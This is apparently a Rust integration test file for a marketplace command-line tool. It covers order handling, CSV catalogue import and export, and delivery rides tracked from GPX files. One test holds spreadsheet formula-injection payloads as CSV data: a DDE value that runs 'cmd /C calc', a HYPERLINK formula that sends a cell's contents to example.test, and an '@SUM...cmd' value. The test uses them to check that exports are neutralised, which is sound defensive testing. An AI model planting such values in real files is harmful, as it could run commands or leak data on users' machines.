//! Catalogues, orders and rides.

use std::fs;

use serde_json::json;

use super::{buy, list_lamp, market, registered};

#[tokio::test(flavor = "multi_thread")]
async fn orders_are_shipped_delivered_cancelled_and_summed_up() {
    let market = market().await;
    let alice = registered(&market).await;
    let lamp = list_lamp(&alice).await;
    for units in [3, 1, 2] {
        buy(&market, lamp, units).await;
    }
    assert_eq!(alice.run(&["ship", "1"]).await.code, 0);
    alice.run(&["ship", "1"]).await.assert_fails(5, &["shipped", "hint"]);
    let delivered = alice.run(&["deliver", "1", "--output", "json"]).await.json();
    assert_eq!(delivered["status"], json!("delivered"));
    let card = alice.run(&["order", "1", "--output", "json"]).await.json();
    assert_eq!((&card["buyer_name"], &card["status"]), (&json!("Bob"), &json!("delivered")), "{card}");
    let card = alice.run(&["order", "1"]).await.out;
    assert!(card.contains("unit price  12.50 GBP") && !card.contains("seller"), "{card}");
    alice.run(&["order", "99"]).await.assert_fails(3, &["99"]);
    let card = alice.run(&["show", &lamp.to_string()]).await.out;
    assert!(card.contains("Brass lantern") && card.contains("version") && !card.contains("seller"), "{card}");
    alice.run(&["show", "99"]).await.assert_fails(3, &["99"]);
    alice.run(&["cancel", "2"]).await.assert_fails(2, &["--reason"]);
    let cancelled = alice.run(&["cancel", "2", "--reason", "cracked", "--output", "json"]).await.json();
    assert_eq!(
        (&cancelled["cancelled_by"], &cancelled["cancel_reason"]),
        (&json!("seller"), &json!("cracked"))
    );

    let csv = alice.run(&["sales", "--status", "placed", "--output", "csv"]).await.out;
    let lines: Vec<_> = csv.lines().collect();
    let headings = "order_id,item_id,item_name,quantity,unit_price,unit_price_currency,total_price,\
                    total_price_currency,status,buyer_name,buyer_id,";
    assert!(lines[0].starts_with(headings), "{csv}");
    let row = "3,1,Brass lantern,2,12.50,GBP,25.00,GBP,placed,Bob,";
    assert!(lines.len() == 2 && lines[1].starts_with(row), "{csv}");

    let days = alice.run(&["sales", "--summary", "--output", "json"]).await.rows();
    assert_eq!((&days[0]["order_count"], &days[0]["quantity"]), (&json!(2), &json!(5)), "{days:?}");
    let items = alice.run(&["sales", "--summary", "item"]).await.out;
    assert!(items.contains("62.50 GBP") && items.contains('█'), "{items}");
    let long_ago = alice.run(&["sales", "--until", "2020-01-01"]).await;
    assert!(long_ago.code == 0 && long_ago.out.is_empty(), "{long_ago:?}");
    alice.run(&["sales", "--from", "yesterday"]).await.assert_fails(2, &["2026-11-25"]);
    alice.run(&["sales", "--summary", "--item", "1"]).await.assert_fails(2, &["--item"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_catalogue_is_imported_exported_and_imported_again() {
    let market = market().await;
    let alice = registered(&market).await;
    let file = |name: &str, text: &[u8]| {
        let path = alice.home.path().join(name);
        fs::write(&path, text).expect("written");
        path.display().to_string()
    };
    let clean = file(
        "clean.csv",
        b"sku,name,category,price,quantity\nL-1,Lamp,home,12.50 GBP,3\nC-1,\"Chair, oak\",home,99 GBP,0\n",
    );
    let checked = alice.run(&["import", &clean, "--dry-run", "--output", "json"]).await;
    assert!(checked.err.contains("nothing was changed"), "{checked:?}");
    assert_eq!(checked.json()["created_count"], json!(2));
    let tally = alice.run(&["import", &clean, "--output", "json"]).await.json();
    assert_eq!(
        (&tally["rows"], &tally["created_count"], &tally["failed_count"]),
        (&json!(2), &json!(2), &json!(0))
    );

    let dirty = file(
        "dirty.csv",
        b"sku,name,category,price,quantity\nL-1,Lamp,home,\"12,5 GBP\",3\nL-2,La\xffmp,home,1 GBP,1\n\
          L-3,Stool,home,5 GBP,1\nL-3,Stool,home,5 GBP,1\nL-4,T\xc3\xa0ble,home,5 GBP,many\nL-5,,home,5 GBP,1\n",
    );
    let ran = alice.run(&["import", &dirty]).await;
    assert_eq!(ran.code, 2, "{ran:?}");
    for word in
        ["line 2", "comma", "line 3", "UTF-8", "line 5", "line 4 already", "line 6", "line 7", "5 of 6 rows"]
    {
        assert!(ran.err.contains(word), "{word:?} is missing: {ran:?}");
    }
    let headless = file("headless.csv", b"L-1,Lamp,home,1 GBP,3\n");
    let refused = alice.run(&["import", &headless]).await;
    assert!(refused.code == 2 && refused.err.contains("--column"), "{refused:?}");
    let missing = alice.run(&["import", "nowhere.csv"]).await;
    assert!(missing.code == 1 && missing.err.contains("nowhere.csv"), "{missing:?}");

    for name in ["out.csv", "out.ndjson"] {
        let out = alice.home.path().join(name).display().to_string();
        assert_eq!(alice.run(&["export", &out]).await.code, 0);
        let tally = alice.run(&["import", &out, "--output", "json"]).await.json();
        assert_eq!((&tally["rows"], &tally["unchanged_count"]), (&json!(3), &json!(3)), "{name}: {tally}");
    }
    let exported = alice.run(&["export"]).await.out;
    assert!(
        exported.starts_with("sku,item_id,name,description,category,price,currency,quantity"),
        "{exported}"
    );
    assert!(exported.contains("home,12.50,GBP,3"), "{exported}");
    let exported = alice.run(&["export", "--format", "ndjson"]).await.out;
    let piped = alice.type_in(&["import", "-", "--format", "ndjson", "--output", "json"], &exported).await;
    assert_eq!(piped.json()["unchanged_count"], json!(3));
}

/// What a spreadsheet would run, in lists and in the file of an export.
#[tokio::test(flavor = "multi_thread")]
async fn formulas_become_texts_and_come_back_from_an_export() {
    let market = market().await;
    let alice = registered(&market).await;
    let path = |name: &str| alice.home.path().join(name).display().to_string();
    let formulas = concat!(
        "sku,name,description,category,price,quantity\n",
        "\"=cmd|' /C calc'!A0\",\"=HYPERLINK(\"\"http://example.test/?x=\"\"&A1,\"\"click\"\")\",\"@SUM(1+1)*cmd\",\"home\",1 GBP,1\n",
        "-1+1,+CALC,-2+3,home,1 GBP,1\n-5,'=1,'quoted',home,1 GBP,1\n"
    );
    fs::write(path("formulas.csv"), formulas).expect("written");
    let tally = alice.run(&["import", &path("formulas.csv"), "--output", "json"]).await.json();
    assert_eq!(tally["created_count"], json!(3), "{tally}");
    assert_eq!(alice.run(&["export", &path("out.csv")]).await.code, 0);
    let listed = alice.run(&["items", "--output", "csv"]).await.out;
    let exported = fs::read_to_string(path("out.csv")).expect("a file");
    for file in [&listed, &exported] {
        let mut cells = csv_cells(file);
        assert!(cells.any(|cell| cell.starts_with("'=HYPERLINK(")), "{file}");
        let runs = |cell: &String| cell.starts_with(['=', '+', '-', '@']) && cell != "-5";
        assert_eq!(csv_cells(file).find(runs), None, "{file}");
    }
    // The items have their own names, and the file leads to them again.
    let items = alice.run(&["items", "--output", "json"]).await.rows();
    let names: Vec<_> = items.iter().map(|item| item["name"].clone()).collect();
    let expected = ["=HYPERLINK(\"http://example.test/?x=\"&A1,\"click\")", "+CALC", "=1"];
    assert_eq!(names, expected.map(|name| json!(name)));
    let tally = alice.run(&["import", &path("out.csv"), "--output", "json"]).await.json();
    assert_eq!((&tally["rows"], &tally["unchanged_count"]), (&json!(3), &json!(3)), "{tally}");
}

/// Returns the cells of a file, with those of its heading.
fn csv_cells(text: &str) -> impl Iterator<Item = String> {
    let reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.into_records().flat_map(|record| {
        let record = record.expect("a record");
        record.iter().map(str::to_owned).collect::<Vec<_>>()
    })
}

#[tokio::test(flavor = "multi_thread")]
async fn a_ride_is_started_driven_along_a_recorded_track_and_ended() {
    let market = market().await;
    let alice = registered(&market).await;
    let lamp = list_lamp(&alice).await;
    buy(&market, lamp, 1).await;
    let start = |order: &'static str| {
        [
            "ride",
            "start",
            order,
            "--from",
            "51.5,-0.1",
            "--vehicle",
            "green van",
            "--driver",
            "Eve",
            "--output",
            "json",
        ]
    };
    alice.run(&start("1@north,pole")).await.assert_fails(2, &["51.5,-0.1"]);
    alice.run(&start("99")).await.assert_fails(3, &["99"]);
    let ride = alice.run(&start("1@51.5,0.1")).await.json();
    assert_eq!((&ride["order_ids"], &ride["kind"]), (&json!([1]), &json!("regular")), "{ride}");
    let id = ride["ride_id"].as_str().expect("an id");
    alice.run(&start("1")).await.assert_fails(5, &["shipped"]);

    let gpx = alice.home.path().join("ride.gpx");
    let points: String = (0..30)
        .map(|n| {
            format!(
                r#"<trkpt lat="51.5" lon="{}"><time>2026-11-25T08:{n:02}:00Z</time></trkpt>"#,
                -0.1 + f64::from(n) / 1_000.0
            )
        })
        .collect();
    let head =
        r#"<?xml version="1.0"?><gpx version="1.1" creator="t" xmlns="http://www.topografix.com/GPX/1/1">"#;
    fs::write(&gpx, format!("{head}<trk><trkseg>{points}</trkseg></trk></gpx>")).expect("written");
    let gpx = gpx.display().to_string();
    let tracked =
        alice.run(&["ride", "track", id, "--gpx", &gpx, "--speed", "10000", "--output", "json"]).await;
    let tracked = tracked.json();
    assert_eq!((&tracked["received_count"], &tracked["failed_count"]), (&json!(30), &json!(0)), "{tracked}");
    let typed = alice.type_in(&["ride", "track", id], "51.5,0.05\nsomewhere\n").await;
    assert!(typed.code == 0 && typed.err.contains("somewhere"), "{typed:?}");

    let ended = alice.run(&["ride", "end", id, "--output", "json"]).await.json();
    assert!(ended["end_time"].is_string(), "{ended}");
    alice.run(&["ride", "track", id, "--gpx", &gpx]).await.assert_fails(5, &["over"]);
    alice.run(&["ride", "track", id, "--gpx", "nowhere.gpx"]).await.assert_fails(1, &["nowhere.gpx"]);
}
